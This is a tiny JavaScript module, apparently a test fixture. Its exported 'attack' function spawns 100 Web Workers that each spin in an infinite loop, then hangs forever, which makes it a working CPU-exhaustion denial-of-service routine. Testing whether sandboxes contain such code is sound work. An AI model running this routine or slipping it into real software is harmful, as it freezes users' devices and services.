/** A hundred loops beside its own, in workers that it starts: they end with it. */
export async function attack() {
  const url = URL.createObjectURL(new Blob(["for (;;);"]));
  for (let count = 0; count < 100; count++) new Worker(url);
  await new Promise(() => {});
}
